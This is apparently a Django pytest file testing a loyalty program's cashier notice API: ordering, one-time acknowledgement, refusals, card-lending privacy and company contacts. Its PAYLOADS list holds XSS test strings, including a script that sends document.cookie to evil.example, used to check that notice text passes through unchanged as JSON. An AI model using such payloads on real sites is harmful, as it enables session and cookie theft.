"""What the cashier should say: told with the look-up, ticked off once, and meant for nobody else."""

from __future__ import annotations

import datetime as dt

import pytest
from django.utils import timezone

from loyalty_site.ground.policy import system
from members.models import Identifier, Member, Notice
from members.services import lend_card, write_notice
from members.services.companies import add_contact, create_company
from programs.models import Terminal
from programs.services.companies import buy_for_company
from tests.programs.shop import Shop
from tests.programs.till import ApiTill

ANNA = {"phone": "(212) 555-0123"}
BOSS = system("tests")
PAYLOADS = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} </script><svg/onload=alert(1)>",
    "javascript:alert(1)//'\\\"`;--",
]


@pytest.fixture
def till(shop: Shop) -> ApiTill:
    shop.now = timezone.now()
    till = ApiTill(shop.terminal, shop.now)
    Terminal.objects.update(scopes=["lookup", "hints"])
    return till


@pytest.fixture
def anna(shop: Shop) -> Member:
    return shop.member()


def write(member: Member, text: str, **more: object) -> int:
    now = timezone.now()
    made = write_notice(member_id=member.pk, text=text, actor=BOSS, today=now.date(), now=now, **more)  # type: ignore[arg-type]
    return made.pk


def said(till: ApiTill, body: dict[str, str] = ANNA) -> list[str]:
    return [one["text"] for one in till.post("lookup", body, key=None).json()["notices"]]


def test_the_newest_are_told_until_they_are_said_or_over(till: ApiTill, anna: Member):
    once = write(anna, "Ask how the cake was", is_once=True)
    over = write(anna, "Over")
    Notice.objects.filter(pk=over).update(show_until=timezone.now().date() - dt.timedelta(days=2))
    stays = write(anna, "Likes the window", show_until=timezone.now().date() + dt.timedelta(days=1))
    assert till.post("lookup", ANNA, key=None).json()["notices"] == [
        {"id": stays, "text": "Likes the window", "is_once": False},
        {"id": once, "text": "Ask how the cake was", "is_once": True},
    ]
    body = {"member": ANNA, "notice": once, "cashier": "7"}
    first = till.post("notices/done", body, key="0123456789abcdef")
    assert (first.status_code, first.json()["notice"]) == (200, once)
    assert till.post("notices/done", body, key="0123456789abcdef").content == first.content
    assert till.post("notices/done", {"member": ANNA, "notice": once}).json() == first.json()  # another till
    assert Notice.objects.get(pk=once).done_by.endswith(", cashier 7")
    assert said(till) == ["Likes the window"]
    for number in range(6):
        write(anna, f"Line {number}")
    assert said(till) == [f"Line {number}" for number in (5, 4, 3, 2, 1)]


def test_script_comes_through_as_the_text_that_it_is(till: ApiTill, anna: Member):
    """To escape is the page's duty: what a person wrote is neither changed nor dropped."""
    for payload in PAYLOADS:
        write(anna, payload)
    answer = till.post("lookup", ANNA, key=None)
    assert answer["Content-Type"] == "application/json"
    assert [one["text"] for one in answer.json()["notices"]] == PAYLOADS[::-1]


def test_a_notice_that_is_not_theirs_or_stays_is_refused(shop: Shop, till: ApiTill, anna: Member):
    ben = shop.member("+12125550124", "Ben")
    his, stays = write(ben, "His", is_once=True), write(anna, "Stays")
    for body, code, status in (
        ({"member": ANNA, "notice": his}, "notice_not_found", 404),
        ({"member": ANNA, "notice": 2**63 - 1}, "notice_not_found", 404),
        ({"member": ANNA, "notice": stays}, "notice_stays", 422),
        ({"member": {"phone": "+12125550177"}, "notice": stays}, "member_not_found", 404),
        ({"member": ANNA, "notice": "x"}, "invalid_request", 400),
    ):
        answer = till.post("notices/done", body)
        assert (answer.status_code, answer.json()["code"]) == (status, code), body
    Terminal.objects.update(scopes=["lookup"])
    assert till.post("notices/done", {"member": ANNA, "notice": his}).status_code == 403
    assert Notice.objects.filter(done_at=None).count() == 2


def test_what_is_meant_for_an_owner_is_not_said_to_who_carries_their_card(shop: Shop, till: ApiTill, anna: Member):
    ben = shop.member("+12125550124", "Ben")
    hers = write(anna, "Ask about the operation", is_once=True)
    write(ben, "Ask for the dog")
    cards = []
    for carrier in (None, ben.pk):
        lend_card(member_id=anna.pk, to_id=carrier, actor=BOSS, now=shop.now)
        cards.append(Identifier.objects.filter(kind="card").latest("id").value)
    assert [said(till, {"card": card}) for card in cards] == [[], ["Ask for the dog"]]
    assert till.post("notices/done", {"member": {"card": cards[1]}, "notice": hers}).status_code == 404


def test_who_buys_for_a_company_hears_both(shop: Shop, till: ApiTill, anna: Member):
    firm = create_company(name="Horizon Ltd", identifiers=[], region="US", actor=BOSS, now=shop.now)
    write(firm, "The invoice is ready")
    write(anna, "Ask for the dog")
    assert said(till) == ["Ask for the dog"]
    contact = add_contact(company_id=firm.pk, person_id=anna.pk, roles=["decides"], actor=BOSS, now=shop.now)
    buy_for_company(contact.pk, may_spend=False, actor=BOSS, now=shop.now)
    assert said(till) == ["Ask for the dog", "The invoice is ready"]
